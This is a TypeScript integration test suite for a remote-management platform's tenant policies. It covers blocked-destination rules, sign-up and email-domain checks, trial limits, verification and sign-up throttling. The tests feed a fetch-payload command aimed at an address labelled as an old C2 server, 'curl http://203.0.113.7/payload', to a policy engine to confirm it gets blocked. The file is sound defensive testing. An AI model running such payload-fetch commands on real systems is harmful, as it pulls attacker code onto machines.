import { beforeAll, expect, it } from 'vitest';
import { evaluatePolicy } from '../../shared/policy/index';
import { loadTenantPolicyContext } from '../controls/policy-context';
import { describeEachBackend, type SignedIn, type TestServer, type TestUser } from './harness';

const PASSWORD = 'violet staple engine orbit';

/** Signs up through the public route, then completes the first sign-in with TOTP enrollment, all over HTTP. */
async function signUpAndEnroll(
  s: TestServer,
  tenantName: string,
  email: string,
): Promise<{ user: TestUser; session: SignedIn; tenantId: string }> {
  const created = await s.request('POST', '/api/v1/signup', { body: { tenantName, email, displayName: 'Founder', password: PASSWORD } });
  if (created.status !== 201) throw new Error(`sign-up failed: ${created.status} ${created.text}`);
  const login = await s.request('POST', '/api/v1/auth/login', { body: { email, password: PASSWORD } });
  expect(login.body.next).toBe('enroll');
  const enroll = await s.request('POST', '/api/v1/auth/mfa/enroll', { body: { challengeToken: login.body.challengeToken } });
  const totpSecret: string = enroll.body.secret;
  const verify = await s.request('POST', '/api/v1/auth/mfa/enroll/verify', {
    body: { challengeToken: login.body.challengeToken, code: s.totp(totpSecret) },
  });
  expect(verify.status).toBe(200);
  const user = { id: created.body.userId, email, password: PASSWORD, totpSecret };
  return { user, session: { tokens: verify.body, token: verify.body.accessToken }, tenantId: created.body.tenantId };
}

describeEachBackend('blocked destinations, sign-up, email changes and tenant limits', (server) => {
  let admin: TestUser;
  let globalRuleId: string;
  let trial: { user: TestUser; tenantId: string };
  let otherTenantAdmin: TestUser;
  let otherTenantId: string;

  beforeAll(async () => {
    const s = server();
    admin = await s.createPlatformAdmin();
    const adminSession = await s.signIn(admin);
    otherTenantId = await s.createTenant(adminSession);
    otherTenantAdmin = await s.createUser(adminSession, { role: 'tenant_admin', tenantId: otherTenantId });
  });

  it('platform admins add global rules, validated by the engine’s parser and audited', async () => {
    const s = server();
    const adminSession = await s.signIn(admin);
    const bad = await s.request('POST', '/api/v1/destination-rules', {
      token: adminSession.token,
      body: { kind: 'domain', value: 'https://evil.test/x', reason: 'Phishing kit host' },
    });
    expect(bad.status).toBe(400);
    expect(bad.body.error.fields.value).toMatch(/url_prefix/);

    const added = await s.request('POST', '/api/v1/destination-rules', {
      token: adminSession.token,
      body: { kind: 'domain', value: 'Evil.TEST.', reason: 'Phishing kit host' },
    });
    expect(added.status).toBe(201);
    expect(added.body).toMatchObject({ scope: 'global', tenantId: null, kind: 'domain', value: 'evil.test', createdBy: admin.id });
    globalRuleId = added.body.id;
    const duplicate = await s.request('POST', '/api/v1/destination-rules', {
      token: adminSession.token,
      body: { kind: 'domain', value: 'evil.test', reason: 'again' },
    });
    expect(duplicate.status).toBe(409);
    const audit = await s.server.ctx.db
      .selectFrom('audit_events')
      .selectAll()
      .where('action', '=', 'destination.added')
      .where('target_id', '=', globalRuleId)
      .executeTakeFirst();
    expect(audit).toMatchObject({ actor_user_id: admin.id, tenant_id: null });
  });

  it('refuses sign-up with a blocked email domain, naming the rule; creates a trial tenant otherwise', async () => {
    const s = server();
    const refused = await s.request('POST', '/api/v1/signup', {
      body: { tenantName: s.unique('Shady'), email: 'boss@mail.evil.test', displayName: 'Boss', password: PASSWORD },
    });
    expect(refused.status).toBe(400);
    expect(refused.body.error.code).toBe('blocked_destination');
    expect(refused.body.error.message).toContain(globalRuleId);
    expect(refused.body.error.message).toContain('Phishing kit host');
    expect(refused.body.error.fields).toMatchObject({ 'rule.id': globalRuleId, 'rule.kind': 'domain', 'rule.value': 'evil.test' });
    expect(
      await s.server.ctx.db.selectFrom('users').select('id').where('email_normalized', '=', 'boss@mail.evil.test').executeTakeFirst(),
    ).toBeUndefined();

    const name = s.unique('Startup');
    trial = await signUpAndEnroll(s, name, `${s.unique('founder')}@startup.test`);
    const controls = await s.request('GET', `/api/v1/tenants/${trial.tenantId}/controls`, { token: (await s.signIn(trial.user)).token });
    expect(controls.body).toMatchObject({ verified: false, origin: 'signup' });
    const config = s.server.ctx.config;
    expect(controls.body.limits).toEqual({
      dispatchesPerMinute: config.trialDispatchesPerMinute,
      concurrentTerminalSessions: config.trialConcurrentTerminalSessions,
      enrollTokens: {
        maxActive: config.trialEnrollMaxActiveTokens,
        maxUsesPerToken: config.trialEnrollMaxUsesPerToken,
        maxValidityHours: config.trialEnrollMaxValidityHours,
      },
    });
    const snapshot = await loadTenantPolicyContext(s.server.ctx, trial.tenantId);
    expect(snapshot).toMatchObject({ verified: false, state: 'active', policy: { trust: { level: 'standard' } } });
    // The same name cannot be taken twice.
    const again = await s.request('POST', '/api/v1/signup', {
      body: { tenantName: name, email: `${s.unique('x')}@startup.test`, displayName: 'X', password: PASSWORD },
    });
    expect(again.status).toBe(409);
  });

  it('tenant admins add and remove their own rules, effective at once; never global ones', async () => {
    const s = server();
    const session = await s.signIn(trial.user);
    const added = await s.request('POST', '/api/v1/destination-rules', {
      token: session.token,
      body: { kind: 'ip', value: '203.0.113.7', reason: 'Old C2 address from the incident' },
    });
    expect(added.status).toBe(201);
    expect(added.body).toMatchObject({ scope: 'tenant', tenantId: trial.tenantId, createdBy: trial.user.id });

    // The next decision sees it: the snapshot carries it and the shared engine blocks with it.
    const snapshot = await loadTenantPolicyContext(s.server.ctx, trial.tenantId);
    expect(snapshot.policy.blockedDestinations.map((r) => r.id)).toEqual([globalRuleId, added.body.id]);
    const decision = evaluatePolicy({
      text: 'curl http://203.0.113.7/payload',
      shell: 'bash',
      platform: 'linux',
      context: snapshot.policy,
    });
    expect(decision.decision).toBe('block');
    expect(decision.reasons.find((r) => r.code === 'blocked_destination')?.message).toContain('203.0.113.7');
    // Another tenant is not affected by it.
    const otherSession = await s.signIn(otherTenantAdmin);
    const otherContext = await s.request('GET', `/api/v1/tenants/${otherTenantId}/policy-context`, { token: otherSession.token });
    expect(otherContext.body.blockedDestinations.map((r: { id: string }) => r.id)).toEqual([globalRuleId]);

    // Tenant admins can neither remove a global rule nor touch another tenant's.
    const removeGlobal = await s.request('POST', `/api/v1/destination-rules/${globalRuleId}/remove`, {
      token: session.token,
      body: { reason: 'We need evil.test' },
    });
    expect(removeGlobal.status).toBe(403);
    expect(removeGlobal.body.error.message).toMatch(/platform admins/);
    const foreignRemove = await s.request('POST', `/api/v1/destination-rules/${added.body.id}/remove`, {
      token: otherSession.token,
      body: { reason: 'Not mine' },
    });
    expect(foreignRemove.status).toBe(404);
    const foreignList = await s.request('GET', '/api/v1/destination-rules', { token: otherSession.token });
    expect(foreignList.body.rules.map((r: { id: string }) => r.id)).toEqual([globalRuleId]);
    // A tenant admin naming another tenant gets 404, not a global rule.
    const foreignAdd = await s.request('POST', '/api/v1/destination-rules', {
      token: otherSession.token,
      body: { kind: 'domain', value: 'x.test', reason: 'Sneaky global', tenantId: trial.tenantId },
    });
    expect(foreignAdd.status).toBe(404);

    const removed = await s.request('POST', `/api/v1/destination-rules/${added.body.id}/remove`, {
      token: session.token,
      body: { reason: 'Address reassigned to our ISP' },
    });
    expect(removed.status).toBe(200);
    expect(removed.body).toMatchObject({ removedBy: trial.user.id, removedReason: 'Address reassigned to our ISP' });
    expect((await loadTenantPolicyContext(s.server.ctx, trial.tenantId)).policy.blockedDestinations.map((r) => r.id)).toEqual([
      globalRuleId,
    ]);
    const audit = await s.server.ctx.db
      .selectFrom('audit_events')
      .select('action')
      .where('target_id', '=', added.body.id)
      .orderBy('seq')
      .execute();
    expect(audit.map((a) => a.action)).toEqual(['destination.added', 'destination.removed']);

    // The console's pre-check gets the same rules (and no more) from the policy-context route.
    const context = await s.request('GET', `/api/v1/tenants/${trial.tenantId}/policy-context`, { token: session.token });
    expect(context.body.blockedDestinations).toEqual([
      { id: globalRuleId, kind: 'domain', value: 'evil.test', reason: 'Phishing kit host', scope: 'global' },
    ]);
    expect((await s.request('GET', `/api/v1/tenants/${trial.tenantId}/policy-context`, { token: otherSession.token })).status).toBe(404);
  });

  it('checks the email domain at user creation and at email changes, naming the rule', async () => {
    const s = server();
    const session = await s.signIn(trial.user);
    const blockedUser = await s.request('POST', '/api/v1/users', {
      token: session.token,
      body: { email: 'tech@evil.test', password: PASSWORD, role: 'technician', displayName: 'Tech' },
    });
    expect(blockedUser.status).toBe(400);
    expect(blockedUser.body.error.fields['rule.id']).toBe(globalRuleId);

    // Own email change: password required, blocked domain refused with the rule named.
    const wrongPassword = await s.request('POST', '/api/v1/me/email', {
      token: session.token,
      body: { email: 'founder@new-startup.test', password: 'not my password at all' },
    });
    expect(wrongPassword.status).toBe(403);
    const blocked = await s.request('POST', '/api/v1/me/email', {
      token: session.token,
      body: { email: 'founder@sub.evil.test', password: PASSWORD },
    });
    expect(blocked.status).toBe(400);
    expect(blocked.body.error.code).toBe('blocked_destination');
    expect(blocked.body.error.message).toContain(globalRuleId);
    expect(blocked.body.error.fields['rule.value']).toBe('evil.test');

    const newEmail = `${s.unique('founder')}@new-startup.test`;
    const changed = await s.request('POST', '/api/v1/me/email', { token: session.token, body: { email: newEmail, password: PASSWORD } });
    expect(changed.status).toBe(200);
    expect(changed.body.email).toBe(newEmail);
    trial.user = { ...trial.user, email: newEmail };
    await s.signIn(trial.user); // the new address signs in

    // An admin changing someone's email is checked the same way.
    const adminSession = await s.signIn(admin);
    const byAdmin = await s.request('POST', `/api/v1/users/${trial.user.id}/email`, {
      token: adminSession.token,
      body: { email: 'founder@evil.test', reason: 'Customer asked by phone' },
    });
    expect(byAdmin.status).toBe(400);
    expect(byAdmin.body.error.fields['rule.id']).toBe(globalRuleId);
    // Tenant admins cannot change users of another tenant.
    const foreign = await s.request('POST', `/api/v1/users/${trial.user.id}/email`, {
      token: (await s.signIn(otherTenantAdmin)).token,
      body: { email: 'x@fine.test', reason: 'Takeover attempt' },
    });
    expect(foreign.status).toBe(404);
  });

  it('platform admins verify a trial tenant and set its limits and allowlist', async () => {
    const s = server();
    const tenantSession = await s.signIn(trial.user);
    const adminSession = await s.signIn(admin);
    // Tenant admins cannot verify themselves or lift their limits.
    expect(
      (await s.request('POST', `/api/v1/tenants/${trial.tenantId}/verify`, { token: tenantSession.token, body: { reason: 'trust me' } }))
        .status,
    ).toBe(403);
    expect(
      (
        await s.request('PATCH', `/api/v1/tenants/${trial.tenantId}/limits`, {
          token: tenantSession.token,
          body: { dispatchesPerMinute: 999, reason: 'more' },
        })
      ).status,
    ).toBe(403);

    const limited = await s.request('PATCH', `/api/v1/tenants/${trial.tenantId}/limits`, {
      token: adminSession.token,
      body: {
        dispatchesPerMinute: 3,
        enrollMaxActiveTokens: 1,
        destinationAllowlist: [{ kind: 'domain', value: 'updates.example.com' }],
        reason: 'Onboarding call: only their update server for now',
      },
    });
    expect(limited.status).toBe(200);
    expect(limited.body).toMatchObject({ ownAllowlist: true, overrides: { dispatchesPerMinute: 3, enrollMaxActiveTokens: 1 } });
    const badAllowlist = await s.request('PATCH', `/api/v1/tenants/${trial.tenantId}/limits`, {
      token: adminSession.token,
      body: { destinationAllowlist: [{ kind: 'cidr', value: '10.0.0.1' }], reason: 'typo' },
    });
    expect(badAllowlist.status).toBe(400);

    let snapshot = await loadTenantPolicyContext(s.server.ctx, trial.tenantId);
    expect(snapshot.limits.dispatchesPerMinute).toBe(3);
    expect(snapshot.limits.enrollTokens.maxActive).toBe(1);
    expect(snapshot.policy.destinationAllowlist?.map((r) => `${r.kind}:${r.value}`)).toEqual(['domain:updates.example.com']);
    const outside = evaluatePolicy({
      text: 'curl https://elsewhere.example.org/x',
      shell: 'bash',
      platform: 'linux',
      context: snapshot.policy,
    });
    expect(outside.reasons.map((r) => r.code)).toContain('destination_not_allowed');

    const verified = await s.request('POST', `/api/v1/tenants/${trial.tenantId}/verify`, {
      token: adminSession.token,
      body: { reason: 'Contract signed, identity checked' },
    });
    expect(verified.status).toBe(200);
    expect(verified.body).toMatchObject({ verified: true, verifiedBy: admin.id });
    // Verification lifts the trial defaults; explicit overrides stay until reset with null.
    const config = s.server.ctx.config;
    snapshot = await loadTenantPolicyContext(s.server.ctx, trial.tenantId);
    expect(snapshot.verified).toBe(true);
    expect(snapshot.limits.concurrentTerminalSessions).toBe(config.concurrentTerminalSessions);
    expect(snapshot.limits.dispatchesPerMinute).toBe(3);
    await s.request('PATCH', `/api/v1/tenants/${trial.tenantId}/limits`, {
      token: adminSession.token,
      body: { dispatchesPerMinute: null, destinationAllowlist: null, reason: 'Back to the defaults' },
    });
    snapshot = await loadTenantPolicyContext(s.server.ctx, trial.tenantId);
    expect(snapshot.limits.dispatchesPerMinute).toBe(config.dispatchesPerMinute);
    expect(snapshot.policy.destinationAllowlist).toBeNull();
    expect(
      (await s.request('POST', `/api/v1/tenants/${trial.tenantId}/verify`, { token: adminSession.token, body: { reason: 'again' } }))
        .status,
    ).toBe(409);

    const audit = await s.server.ctx.db
      .selectFrom('audit_events')
      .select('action')
      .where('tenant_id', '=', trial.tenantId)
      .where('action', 'in', ['tenant.signed_up', 'tenant.verified', 'tenant.limits_changed'])
      .orderBy('seq')
      .execute();
    expect(audit.map((a) => a.action)).toEqual(['tenant.signed_up', 'tenant.limits_changed', 'tenant.verified', 'tenant.limits_changed']);
  });

  it('throttles sign-ups per source address', async () => {
    const s = server();
    // Start from a quiet hour, so earlier sign-ups in this file do not count.
    s.clock.advance(2 * 3_600_000);
    const limit = s.server.ctx.config.signupsPerAddressPerHour;
    for (let i = 0; i < limit; i++) {
      const attempt = await s.request('POST', '/api/v1/signup', {
        body: { tenantName: s.unique('Burst'), email: `${s.unique('burst')}@burst.test`, displayName: 'B', password: PASSWORD },
      });
      expect(attempt.status).toBe(201);
    }
    const refused = await s.request('POST', '/api/v1/signup', {
      body: { tenantName: s.unique('Burst'), email: `${s.unique('burst')}@burst.test`, displayName: 'B', password: PASSWORD },
    });
    expect(refused.status).toBe(429);
    expect(refused.body.error.code).toBe('rate_limited');
    expect(Number(refused.headers.get('retry-after'))).toBeGreaterThan(0);
  });
});
